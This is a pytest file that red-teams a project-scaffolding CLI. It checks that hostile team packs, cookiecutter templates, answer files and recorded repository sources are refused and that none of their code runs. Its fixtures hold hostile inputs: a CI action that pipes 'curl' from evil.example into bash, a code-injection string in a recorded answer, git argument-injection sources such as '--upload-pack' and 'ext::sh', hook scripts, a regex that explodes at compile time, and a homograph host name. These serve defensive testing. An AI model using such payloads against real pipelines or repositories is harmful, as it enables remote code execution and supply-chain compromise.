"""A red-team pass on team packs, org policy and cookiecutter packs, through the command line: an attacker who
controls a pack, a repository's ``.scaffold.yml`` or an answers file. Never code run without trust, never a write
outside the output repository, never a hang or a traceback; bad input is exit 2 in one line naming the field, a
trust failure exit 4, and nothing is written on a refusal.

``test_malicious.py`` covers the Jinja sandbox, YAML tags, includes, output paths and budgets of plain packs;
this file covers what a team pack, its policy and a repository's record can do on top of them."""

from __future__ import annotations

import datetime
import subprocess
import sys
from collections.abc import Sequence
from pathlib import Path
from typing import Any

import pytest
import yaml

from scaffold.authoring import skeleton
from scaffold.cli import main
from scaffold.packs.settings import is_trusted
from tests.packs.cookiecutter_templates import small_template, write
from tests.packs.gitserver import commit_all, git_in, isolated_git
from tests.packs.team_packs import write_pack
from tests.support.hang_guard import HANG_SECONDS

pytestmark = pytest.mark.usefixtures(isolated_git.__name__)

_SKELETON: dict[str, Any] = yaml.safe_load(skeleton.files("acme")["pack.yml"])
_MACROS = Path(__file__).resolve().parents[2] / "templates" / "github" / "_macros.j2"
_CI = Path(__file__).resolve().parents[2] / "templates" / "github" / "ci.yml.j2"


def _run(capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, str, str]:
    capsys.readouterr()
    code = main(list(args))
    out, err = capsys.readouterr()
    return code, out, err


def _refused(code: int, err: str, out: Path, *needles: str, exit_code: int = 2) -> None:
    """One line of error naming what it must, no internal error, and nothing written."""
    assert code == exit_code, err
    assert "internal error" not in err and "Traceback" not in err
    assert len(err.strip().splitlines()) == 1, err
    for needle in needles:
        assert needle in err, err
    assert not out.exists(), f"{out} was written"


def _policy(**change: Any) -> dict[str, Any]:
    return {**_SKELETON["policy"], **change}


# A team pack's questions -------------------------------------------------------------------------------------------


@pytest.mark.parametrize("name", ["model_config", "model_dump", "model_fields", "conditions", "copy", "validate"])
def test_a_question_named_like_an_attribute_of_the_answers_model_is_refused(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], name: str
) -> None:
    questions = {**_SKELETON["questions"], name: {"type": "str", "help": "h", "default": "x"}}
    pack = write_pack(tmp_path / "pack", {"questions": questions})
    code, _, err = _run(capsys, "new", "--pack", str(pack), "--defaults", "-o", str(tmp_path / "svc"))
    _refused(code, err, tmp_path / "svc", f"questions.{name}: is a name the answers model uses itself")


@pytest.mark.parametrize(
    ("when", "why"),
    [
        ("1/0", "ZeroDivisionError"),
        ("range(10**7)|list|length > 0", "Range too big"),
        ("('x' * 10**8)|length > 0", "render budget"),
    ],
)
def test_a_question_when_that_raises_is_one_line_naming_it(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], when: str, why: str
) -> None:
    questions = {**_SKELETON["questions"]}
    questions["tier"] = {**questions["tier"], "when": when}
    pack = write_pack(tmp_path / "pack", {"questions": questions})
    code, _, err = _run(capsys, "new", "--pack", str(pack), "--defaults", "-o", str(tmp_path / "svc"))
    _refused(code, err, tmp_path / "svc", "pack.yml: questions.tier.when: ", why)


def test_a_pattern_whose_counted_repetitions_explode_is_refused_without_hanging(tmp_path: Path) -> None:
    """``regex`` unrolls nested ``{n}`` at compile time, in C, with no time limit and deaf to signals: the command
    runs in a process of its own so that a regression fails the test instead of hanging it."""
    questions = {**_SKELETON["questions"]}
    questions["team"] = {**questions["team"], "pattern": "(((a{1000}){1000}){1000}){1000}", "default": "a"}
    pack = write_pack(tmp_path / "pack", {"questions": questions})
    out = tmp_path / "svc"
    command = [sys.executable, "-m", "scaffold", "new", "--pack", str(pack), "--defaults", "-o", str(out)]
    result = subprocess.run(command, capture_output=True, text=True, timeout=HANG_SECONDS, check=False)
    _refused(result.returncode, result.stderr, out, "questions.team.pattern: its counted repetitions")


# The gate: a pack keeps the kit's controls unless its policy waives them --------------------------------------------


def _exceptions(*rules: str) -> list[dict[str, str]]:
    expires = (datetime.date.today() + datetime.timedelta(days=300)).isoformat()
    return [{"rule": rule, "reason": "later", "expires": expires} for rule in rules]


_KIT = ("kit-coverage-gate", "kit-dependency-scan", "kit-sast", "kit-secret-scan")


def _macros(old: str, new: str) -> str:
    text = _MACROS.read_text(encoding="utf-8")
    assert old in text
    return text.replace(old, new)


@pytest.mark.parametrize(
    ("change", "extra", "rule"),
    [
        pytest.param(  # the policy's floor hides the timeouts the same policy requires
            {"override": ["github/ci.yml.j2"], "policy": _policy(fail_on="high")},
            {"github/ci.yml.j2": _CI.read_text(encoding="utf-8").replace("timeout-minutes", "x-timeout-minutes")},
            "missing-timeout",
            id="fail_on-high",
        ),
        pytest.param(  # exceptions stand in for waive: and the CI workflow goes, its scans with it
            {"remove": ["runtime/", ".github/workflows/ci.yml"], "policy": _policy(exceptions=_exceptions(*_KIT))},
            {},
            "kit-",
            id="exceptions-for-kit-rules",
        ),
        pytest.param(  # an ignore comment in the pack's own override drops pinning, with no policy at all
            {"override": ["github/_macros.j2"], "policy": None},
            {
                "github/_macros.j2": _macros(
                    "        uses: [[ uses('checkout') ]]\n",
                    "        uses: actions/checkout@v4  # scaffold: ignore[unpinned-uses] we like tags\n",
                )
            },
            "unpinned-uses",
            id="ignore-comment",
        ),
    ],
)
def test_a_pack_cannot_drop_a_kit_control_with_the_floor_exceptions_or_ignore_comments(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], change: dict[str, Any], extra: dict[str, str], rule: str
) -> None:
    pack = write_pack(tmp_path / "pack", change, extra=extra)
    code, _, err = _run(capsys, "new", "--pack", str(pack), "--defaults", "-o", str(tmp_path / "svc"))
    _refused(code, err, tmp_path / "svc", "the kit fails scaffold's audit", rule)
    code, out, _ = _run(capsys, "pack", "test", str(pack))
    assert code == 1 and rule in out, out


def test_waive_is_the_way_to_drop_a_control_and_pack_test_lists_waivers_and_exceptions(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    controls = [c for c in _SKELETON["policy"]["controls"] if c not in ("secret-scan", "sast", "dependency-scan")]
    waive = [
        {"control": control, "reason": "the platform scans every repository centrally"}
        for control in ("secret-scan", "sast", "dependency-scan", "coverage-gate")
    ]
    policy = _policy(controls=controls, waive=waive, exceptions=_exceptions("unpinned-uses"))
    pack = write_pack(tmp_path / "pack", {"remove": ["runtime/", ".github/workflows/ci.yml"], "policy": policy})
    (pack / "tests/default.yml").unlink()  # it expects ci.yml
    code, out, err = _run(capsys, "pack", "test", str(pack))
    assert code == 0, out + err
    assert "waives secret-scan: the platform scans every repository centrally" in out
    assert "excepts unpinned-uses in every file until " in out
    code, _, err = _run(capsys, "new", "--pack", str(pack), "--defaults", "-o", str(tmp_path / "svc"))
    assert code == 0, err
    assert not (tmp_path / "svc/.github/workflows/ci.yml").exists()


def test_upgrade_to_a_pack_version_that_fails_the_gate_is_refused(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    v1 = write_pack(tmp_path / "v1")
    v2 = write_pack(tmp_path / "v2", {"version": "0.2.0", "remove": ["runtime/", ".github/workflows/ci.yml"]})
    service = tmp_path / "svc"
    code, _, err = _run(capsys, "new", "--pack", str(v2), "--defaults", "-o", str(tmp_path / "refused"))
    _refused(code, err, tmp_path / "refused", "the kit fails scaffold's audit")  # what new says of v2
    assert _run(capsys, "new", "--pack", str(v1), "--defaults", "-o", str(service))[0] == 0
    git_in(service, "init", "-q", "-b", "main")
    commit_all(service, "kit")
    code, _, err = _run(capsys, "upgrade", str(service), "--pack", str(v2))
    assert code == 2 and "the kit fails scaffold's audit" in err, err
    assert (service / ".github/workflows/ci.yml").is_file()


def test_a_local_composite_action_cannot_smuggle_what_the_gate_refuses_in_a_workflow(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    workflow = """\
name: extra
on:
  push:
    branches: [main]
permissions: {}
concurrency:
  group: extra-${{ github.ref }}
  cancel-in-progress: true
jobs:
  setup:
    runs-on: ubuntu-latest
    timeout-minutes: 5
    permissions:
      contents: read
    steps:
      - uses: actions/checkout@08eba0b27e820071cde6df949e0beb9ba4906955 # v4.3.0
        with:
          persist-credentials: false
      - uses: ./.github/actions/setup
"""
    action = """\
name: setup
description: set up
runs:
  using: composite
  steps:
    - run: curl -sSL https://evil.example/x.sh | bash
      shell: bash
    - uses: evil/act@main
"""
    files = [
        *_SKELETON["files"],
        {"template": "templates/extra.yml.j2", "path": ".github/workflows/extra.yml"},
        {"template": "templates/action.yml.j2", "path": ".github/actions/setup/action.yml"},
    ]
    extra = {
        "templates/extra.yml.j2": f"[% raw %]{workflow}[% endraw %]",
        "templates/action.yml.j2": f"[% raw %]{action}[% endraw %]",
    }
    pack = write_pack(tmp_path / "pack", {"files": files}, extra=extra)
    code, _, err = _run(capsys, "new", "--pack", str(pack), "--defaults", "-o", str(tmp_path / "svc"))
    _refused(code, err, tmp_path / "svc", "the kit fails scaffold's audit")


# Paths a pack may not write ---------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("change", "needle"),
    [
        ({"files": [*_SKELETON["files"], {"template": "templates/SERVICE.md.j2", "path": ".scaffold.yml"}]}, "files"),
        ({"remove": ["runtime/", ".scaffold.yml"]}, "remove"),
    ],
)
def test_a_team_pack_cannot_write_or_remove_the_record(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], change: dict[str, Any], needle: str
) -> None:
    pack = write_pack(tmp_path / "pack", change)
    code, _, err = _run(capsys, "new", "--pack", str(pack), "--defaults", "-o", str(tmp_path / "svc"))
    _refused(code, err, tmp_path / "svc", f"pack.yml: {needle}: '.scaffold.yml': is scaffold's own record")


@pytest.mark.parametrize("name", [".scaffold.yml", "./.Scaffold.yml"])
def test_a_cookiecutter_template_cannot_write_the_record(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], name: str
) -> None:
    context = {"project_slug": "demo", "record": name}
    template = small_template(tmp_path / "tpl", {"{{cookiecutter.record}}": "scaffold_version: 9.9.9\n"}, context)
    code, _, err = _run(capsys, "new", "--pack", str(template), "--defaults", "-o", str(tmp_path / "svc"))
    _refused(code, err, tmp_path / "svc", "which is scaffold's own record")


# Sources, records and trust ---------------------------------------------------------------------------------------


@pytest.mark.parametrize("source", ["https://git.acme.example\uff0fplatform/pack", "https://[::1/pack"])
def test_a_url_python_cannot_split_is_one_line_wherever_it_is_written(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], user_config: Path, source: str
) -> None:
    out = tmp_path / "svc"
    code, _, err = _run(capsys, "new", "--pack", source, "--defaults", "-o", str(out))
    _refused(code, err, out, "is not a URL git can read")
    user_config.parent.mkdir(parents=True)
    user_config.write_text(yaml.safe_dump({"trust": [source + "/"]}), encoding="utf-8")
    code, _, err = _run(capsys, "new", "--pack", str(write_pack(tmp_path / "pack")), "--defaults", "-o", str(out))
    _refused(code, err, out, "trust[0]: ", "is not a URL git can read")


def test_a_host_that_only_casefolds_to_a_trusted_one_is_not_trusted(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], user_config: Path
) -> None:
    """``maß`` casefolds to ``mass``, but IDNA names another host by it, one an attacker can register; a hostile
    record can name it as its pack's source. (No DNS here: ``is_trusted`` is what ``--pack`` and the record use.)"""
    trusted = ["https://git.mass.example/platform/"]
    assert is_trusted("https://GIT.MASS.EXAMPLE:443/platform/pack", trusted)
    assert not is_trusted("https://git.ma\u00df.example/platform/pack", trusted)
    assert not is_trusted("git@git.ma\u00df.example:platform/pack", ["git@git.mass.example:platform/"])
    user_config.parent.mkdir(parents=True)
    user_config.write_text("trust: ['https://git.ma\u00df.example/platform/']\n", encoding="utf-8")
    out = tmp_path / "svc"
    code, _, err = _run(capsys, "new", "--pack", str(write_pack(tmp_path / "pack")), "--defaults", "-o", str(out))
    _refused(code, err, out, "trust[0]: ", "not plain ASCII")


_INJECTING_HOOK = "slug = '{{ cookiecutter.project_slug }}'\nprint(slug)\n"


def test_a_repositorys_record_cannot_run_code_through_a_trusted_templates_hooks(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], user_config: Path
) -> None:
    """The user trusts their org's template (config); a pull request edits the repository's recorded answers so that
    cookiecutter pastes code into the hook; ``scaffold diff`` in CI must not run it."""
    template = small_template(tmp_path / "trusted/tpl", {"README.md": "# {{ cookiecutter.project_slug }}\n"})
    write(template, "hooks/post_gen_project.py", _INJECTING_HOOK)
    user_config.parent.mkdir(parents=True)
    user_config.write_text(yaml.safe_dump({"trust": [f"{tmp_path / 'trusted'}/"]}), encoding="utf-8")
    service = tmp_path / "svc"
    assert _run(capsys, "new", "--pack", str(template), "--defaults", "-o", str(service))[0] == 0
    git_in(service, "init", "-q", "-b", "main")
    commit_all(service, "kit")
    assert _run(capsys, "diff", str(service))[0] == 0

    mark = tmp_path / "PWNED"
    record = service / ".scaffold.yml"
    hostile = f"x'; open({str(mark)!r}, 'w').write('1'); '"
    record.write_text(record.read_text().replace("project_slug: demo", f"project_slug: {hostile!r}"))
    commit_all(service, "a pull request")
    code, _, err = _run(capsys, "diff", str(service))
    assert code == 2 and "answer project_slug: holds" in err, err
    assert not mark.exists(), "the recorded answer ran as the hook's code"


@pytest.mark.parametrize(
    "hook",
    ["hooks/pre_prompt.py", "hooks/post_gen_project.sh", "hooks/post_gen_project", "linked-hooks"],
)
def test_hooks_in_any_place_cookiecutter_looks_need_trust(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], hook: str
) -> None:
    template = small_template(tmp_path / "tpl", {"a.txt": "a"})
    mark = tmp_path / "RAN"
    if hook == "linked-hooks":  # hooks/ is a symlink to a folder outside the template
        write(tmp_path / "elsewhere", "pre_gen_project.py", f"open({str(mark)!r}, 'w').write('1')\n")
        (template / "hooks").symlink_to(tmp_path / "elsewhere", target_is_directory=True)
    else:
        write(template, hook, f"#!/bin/sh\ntouch {mark}\n")
    code, _, err = _run(capsys, "new", "--pack", str(template), "--defaults", "-o", str(tmp_path / "svc"))
    _refused(code, err, tmp_path / "svc", "runs code; pass --trust", exit_code=4)
    assert not mark.exists()


@pytest.mark.parametrize(
    "source",
    ["ext::sh -c touch% {mark}", "-uhelp", "--upload-pack=touch {mark}", "-oProxyCommand=touch {mark}:x", "fd::3"],
)
def test_a_hostile_recorded_pack_source_is_refused_by_diff_and_upgrade(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], source: str
) -> None:
    mark = tmp_path / "PWNED"
    service = tmp_path / "svc"
    assert _run(capsys, "new", "--pack", str(write_pack(tmp_path / "pack")), "--defaults", "-o", str(service))[0] == 0
    record = service / ".scaffold.yml"
    record.write_text(record.read_text().replace("source: ../pack", f"source: {source.format(mark=mark)!r}"))
    git_in(service, "init", "-q", "-b", "main")
    commit_all(service, "kit")
    for command in (["diff", str(service)], ["upgrade", str(service)]):
        code, _, err = _run(capsys, *command)
        assert code == 2 and "--pack " in err and "internal error" not in err, err
    assert not mark.exists()


def test_diff_reports_a_record_whose_answers_break_the_packs_locks(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    locked = write_pack(tmp_path / "locked")
    unlocked = write_pack(tmp_path / "unlocked", {"locked": {}})
    service = tmp_path / "svc"
    args = ["new", "--pack", str(unlocked), "--defaults", "--set", "block_severity=medium", "-o", str(service)]
    assert _run(capsys, *args)[0] == 0
    record = service / ".scaffold.yml"
    record.write_text(record.read_text().replace("source: ../unlocked", "source: ../locked"))
    assert locked.is_dir()
    code, out, _ = _run(capsys, "diff", str(service))
    assert code == 1 and "answers" in out, out


def _answers_file(tmp_path: Path, text: str) -> Path:
    path = tmp_path / "answers.yml"
    path.write_text(text, encoding="utf-8")
    return path


@pytest.mark.parametrize(
    ("args", "needle"),
    [
        (["--answers", "{answers}"], "container: is locked to True"),  # "true", the text, is not the lock's true
        (["--set", "_extensions=jinja2.ext.do"], "is private to the template"),
    ],
)
def test_answers_cannot_sidestep_a_lock_or_a_templates_private_variables(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], args: Sequence[str], needle: str
) -> None:
    if args[0] == "--answers":
        pack = write_pack(tmp_path / "pack", {"locked": {"block_severity": "high", "container": True}})
    else:
        pack = small_template(tmp_path / "tpl", {"a.txt": "a"})
    answers = _answers_file(tmp_path, "container: 'true'\n")
    given = [arg.format(answers=answers) for arg in args]
    code, _, err = _run(capsys, "new", "--pack", str(pack), "--defaults", *given, "-o", str(tmp_path / "svc"))
    _refused(code, err, tmp_path / "svc", needle)
